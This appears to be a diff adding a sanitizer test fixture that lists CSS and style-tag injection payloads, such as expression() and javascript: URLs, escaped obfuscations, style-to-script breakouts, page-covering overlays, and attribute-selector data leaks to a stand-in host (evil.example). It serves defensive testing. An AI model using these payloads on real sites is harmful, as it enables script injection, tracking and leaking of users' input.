@@ -1,0 +1,32 @@
+/** Styles that run something, load something or cover the page. */
+export const STYLES = {
+  'style attributes': [
+    '<p style="width: expression(alert(1))">Text</p>',
+    '<p style="width: exp/**/ression(alert(1))">Text</p>',
+    '<p style="w\\69 dth: e\\78pression(alert(1))">Text</p>',
+    '<p style="background: url(javascript:alert(1))">Text</p>',
+    '<p style="background-image: url(https://evil.example/seen.png)">Text</p>',
+    '<p style="background: u\\72l(https://evil.example/seen.png)">Text</p>',
+    '<p style="behavior: url(x.htc)">Text</p>',
+    '<p style="-moz-binding: url(https://evil.example/x.xml#x)">Text</p>',
+    '<p style="position: fixed; inset: 0; z-index: 9999">Text</p>',
+    '<p style="text-align: center; position: fixed">Text</p>',
+    '<p style="text-align: expression(alert(1))">Text</p>',
+    '<p style="text-align: center url(https://evil.example/)">Text</p>',
+    '<p style="text-align: center}</style><script>alert(1)</script>">Text</p>',
+    '<p style="--x: url(https://evil.example/); content: var(--x)">Text</p>',
+    '<p style="font-family: \'\\22;}*{background:url(https://evil.example/)}\'">Text</p>',
+    '<a href="/" style="display:block;position:absolute;top:0;left:0;width:100%;height:100%">Text</a>',
+  ],
+  'style elements': [
+    '<style>@import "https://evil.example/x.css";</style>',
+    '<style>@import url(javascript:alert(1));</style>',
+    '<style>p { background: url("javascript:alert(1)") }</style>',
+    '<style>input[value^=a] { background: url(https://evil.example/a) }</style>',
+    '<style>@font-face { font-family: x; src: url(https://evil.example/x.woff) }</style>',
+    '<style>@keyframes x {}</style><p style="animation-name: x" onanimationend="alert(1)">Text</p>',
+    '<style>{} *{x:expression(alert(1))}</style>',
+    '<style><!--</style><script>alert(1)//--></script>',
+    '<STYLE>li {list-style-image: url("javascript:alert(1)")}</STYLE><ul><li>Text</li></ul>',
+  ],
+} as const;
